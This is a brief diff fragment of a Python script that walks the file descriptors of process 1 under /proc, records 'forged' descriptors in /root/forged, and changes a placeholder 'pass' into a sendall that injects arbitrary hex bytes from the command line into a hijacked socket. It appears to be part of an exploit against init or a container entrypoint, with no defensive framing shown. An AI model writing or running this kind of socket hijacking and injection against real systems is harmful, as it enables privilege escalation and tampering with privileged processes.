@@ -21,5 +21,5 @@ for name in os.listdir("/proc/1/fd"):
         forged += 1
         with open("/root/forged", "w") as count:
             count.write(str(forged))
-        pass
+        taken.sendall(bytes.fromhex(sys.argv[1]))
     taken.detach()
